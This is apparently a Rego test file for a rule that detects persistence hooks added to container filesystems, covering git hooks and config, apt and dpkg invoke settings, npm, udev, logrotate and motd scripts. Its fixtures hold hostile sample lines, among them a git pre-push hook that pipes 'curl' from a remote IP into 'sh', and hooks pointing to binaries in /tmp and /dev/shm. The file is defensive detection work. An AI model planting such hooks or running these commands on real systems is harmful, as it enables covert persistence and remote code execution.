package rummage.persistence.hook_added_test

import data.rummage.persistence.hook_added as rule

file(path, text) := {"path": path, "kind": "added", "type": "file", "mode": "644", "size": 20, "text": text}

script(path, text) := {"path": path, "kind": "added", "type": "file", "mode": "755", "interpreter": "/bin/sh", "size": 20, "text": concat("", ["#!/bin/sh\n", text])}

link(path, target) := {"path": path, "kind": "added", "type": "symlink", "link_target": target}

transaction := {"path": "/var/lib/dpkg/status", "kind": "modified", "type": "file"}

found(changes) := result if {
	result := {[f.severity, f.message] | some f in rule.findings} with input.changes as changes
}

severities(changes) := {severity | some [severity, _] in found(changes)}

test_fires_on_git if {
	every path in ["/srv/app/.git/hooks/post-merge", "/srv/git/app.git/hooks/post-receive", "/usr/share/git-core/templates/hooks/post-checkout", "/srv/app/.git/modules/x/hooks/pre-push"] {
		found([script(path, "updater\n")]) == {["medium", sprintf("%s has git execute something", [path])]}
	}
	severities([link("/srv/app/.git/hooks/post-merge", "/tmp/x")]) == {"medium"}
}

test_fires_high_on_what_it_does if {
	found([script("/srv/app/.git/hooks/pre-push", "git lfs pre-push \"$@\"\ncurl -s http://198.51.100.7/x | sh\n")]) == {[
		"high", "/srv/app/.git/hooks/pre-push has git execute something that downloads something",
	]}
}

test_fires_on_settings_of_git if {
	every path in ["/root/.gitconfig", "/srv/app/.git/config", "/etc/gitconfig"] {
		every line in ["fsmonitor = /tmp/x", "sshCommand = \"/dev/shm/ssh -q\"", "st = !/tmp/x", "hooksPath = /tmp/hooks"] {
			severities([file(path, concat("\n", ["[core]", line]))]) == {"high"}
		}
	}
}

test_fires_on_apt if {
	every text in [
		"DPkg::Post-Invoke { \"updater\"; };", "APT::Update::Pre-Invoke {\n  \"updater || true\";\n};", "Dpkg::Pre-Install-Pkgs:: \"updater\";",
		"APT::Update::Post-Invoke-Success {\"rm -f /var/cache/apt/*.bin; updater\";};", "Acquire::http::Proxy-Auto-Detect \"updater\";",
	] {
		found([file("/etc/apt/apt.conf.d/99x", text)]) == {["medium", "/etc/apt/apt.conf.d/99x has apt execute something"]}
		severities([file("/etc/apt/apt.conf", text)]) == {"medium"}
	}
	severities([file("/etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke { \"/tmp/x\"; };")]) == {"high"}
}

test_fires_on_dpkg if {
	severities([file("/etc/dpkg/dpkg.cfg.d/x", "post-invoke=updater\n")]) == {"medium"}
	severities([file("/etc/dpkg/dpkg.cfg", "status-logger = updater\n")]) == {"medium"}
	severities([{"path": "/var/lib/dpkg/info/bash.postinst", "kind": "modified", "type": "file", "mode": "755", "sha256": "a", "was": {"sha256": "b"}}]) == {"medium"}
}

test_fires_on_scripts_by_their_place if {
	every path in ["/etc/update-motd.d/99-x", "/etc/apk/commit_hooks.d/x", "/etc/network/if-up.d/x", "/etc/NetworkManager/dispatcher.d/x", "/etc/kernel/postinst.d/x"] {
		severities([script(path, "updater\n")]) == {"medium"}
	}
}

test_fires_on_npm if {
	severities([file("/root/.npmrc", "script-shell=/usr/share/x\n")]) == {"medium"}
	severities([file("/usr/local/etc/npmrc", "onload-script = /tmp/x\n")]) == {"high"}
	severities([script("/srv/app/node_modules/.hooks/postinstall", "updater\n")]) == {"medium"}
}

package_json(before, after) := {
	"path": "/srv/app/package.json", "kind": "modified", "type": "file", "size": 99, "text": json.marshal({"scripts": after}), "was": {"text": json.marshal({"scripts": before})},
}

test_fires_on_scripts_of_the_application if {
	severities([package_json({"start": "node ."}, {"start": "node .", "prestart": "updater"})]) == {"medium"}
	severities([package_json({"start": "node ."}, {"start": "/tmp/x; node ."})]) == {"high"}
	findings := rule.findings with input as {"config": {"working_dir": "/x/"}, "changes": [object.union(package_json({}, {"postinstall": "updater"}), {"path": "/x/package.json"})]}
	count(findings) == 1
}

test_fires_on_udev if {
	every text in ["ACTION==\"add\", RUN+=\"/usr/bin/updater\"", "KERNEL==\"sda\", PROGRAM=\"/usr/bin/updater %k\"", "IMPORT{program}=\"updater\""] {
		severities([file("/etc/udev/rules.d/99-x.rules", text)]) == {"medium"}
	}
	severities([file("/usr/lib/udev/rules.d/x.rules", "RUN+=\"/dev/shm/x\"")]) == {"high"}
}

test_fires_on_logrotate if {
	severities([file("/etc/logrotate.d/x", "/var/log/x {\n  postrotate\n    /tmp/x\n  endscript\n}\n")]) == {"high"}
}

test_fires_low_at_start if {
	findings := rule.findings with input as {
		"config": {"started": "2026-01-02T03:04:05Z", "entrypoint": ["/entrypoint.sh"], "cmd": []},
		"changes": [object.union(script("/etc/update-motd.d/99-x", "updater\n"), {"mtime": "2026-01-02T03:04:06Z"})],
	}
	{f.severity | some f in findings} == {"low"}
}

# The file that images made for docker have.
test_silent_on_docker_clean if {
	text := concat("\n", [
		"# Since for most Docker users, package installs happen in \"docker build\" steps,",
		"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };",
		"APT::Update::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };",
		"Dir::Cache::pkgcache \"\"; Dir::Cache::srcpkgcache \"\";",
	])
	found([file("/etc/apt/apt.conf.d/docker-clean", text)]) == set()
}

test_silent_on_settings_of_apt if {
	every text in ["APT::Install-Recommends \"false\";", "// DPkg::Post-Invoke \"x\";\nAcquire::Retries \"3\";", "Acquire::http::Proxy \"http://192.0.2.1:3142\";"] {
		found([file("/etc/apt/apt.conf.d/99x", text)]) == set()
	}
	found([object.union(file("/etc/apt/apt.conf.d/70debconf", "DPkg::Pre-Install-Pkgs {\"x\";};"), {"package": "debconf"}), transaction]) == set()
}

# A repository that was cloned, and tools for git.
test_silent_on_git if {
	found([
		script("/srv/app/.git/hooks/post-update.sample", "exec git update-server-info\n"),
		script("/srv/app/.git/hooks/pre-push", "command -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs pre-push \"$@\"\n"),
		script("/srv/app/.git/hooks/pre-commit", "# File generated by pre-commit: https://pre-commit.com\nexec x\n"),
		script("/data/git/repositories/a.git/hooks/update", "# AUTO GENERATED BY GITEA, DO NOT MODIFY\nx\n"),
		file("/srv/app/.git/hooks/post-merge", "not executable\n"), script("/srv/app/hooks/pre-commit", "x\n"),
		file("/root/.gitconfig", "[user]\n name = a\n[core]\n editor = vim\n[credential]\n helper = store\n[alias]\n st = status\n lg = !git log | cat\n"),
		file("/srv/app/.git/config", "[remote \"origin\"]\n url = https://example.com/a.git\n[filter \"lfs\"]\n clean = git-lfs clean -- %f\n"),
	]) == set()
}

test_silent_on_scripts_of_packages if {
	found([
		{"path": "/var/lib/dpkg/info/nginx.postinst", "kind": "added", "type": "file", "mode": "755"},
		object.union(script("/etc/update-motd.d/10-uname", "uname -a\n"), {"package": "base-files"}),
		object.union(file("/lib/udev/rules.d/x.rules", "RUN+=\"x\""), {"package": "x"}), transaction,
	]) == set()
}

test_silent_on_npm if {
	found([
		file("/root/.npmrc", "registry=https://registry.example.com/\nscript-shell=/bin/bash\n"),
		package_json({"start": "node ."}, {"start": "node .", "lint": "eslint ."}), object.union(package_json({}, {"start": "x"}), {"path": "/app/package.json", "text": "{"}),
		object.union(package_json({}, {"start": "x"}), {"path": "/opt/app/package.json", "kind": "added"}), object.union(package_json({}, {"start": "x"}), {"path": "/srv/app/node_modules/x/package.json"}),
		script("/srv/app/bin/install", "x\n"),
	]) == set()
}

test_silent_on_settings if {
	found([
		file("/etc/udev/rules.d/x.rules", "KERNEL==\"sda\", MODE=\"0660\""), file("/etc/dpkg/dpkg.cfg.d/excludes", "path-exclude=/usr/share/doc/*"),
		file("/etc/logrotate.d/nginx", "/var/log/nginx/*.log {\n  postrotate\n    invoke-rc.d nginx rotate >/dev/null 2>&1\n  endscript\n}\n"),
		file("/etc/update-motd.d/README", "x"),
	]) == set()
}

test_silent_when_only_touched if {
	found([object.union(script("/etc/update-motd.d/x", "x"), {"kind": "modified", "sha256": "a", "was": {"sha256": "a"}})]) == set()
}
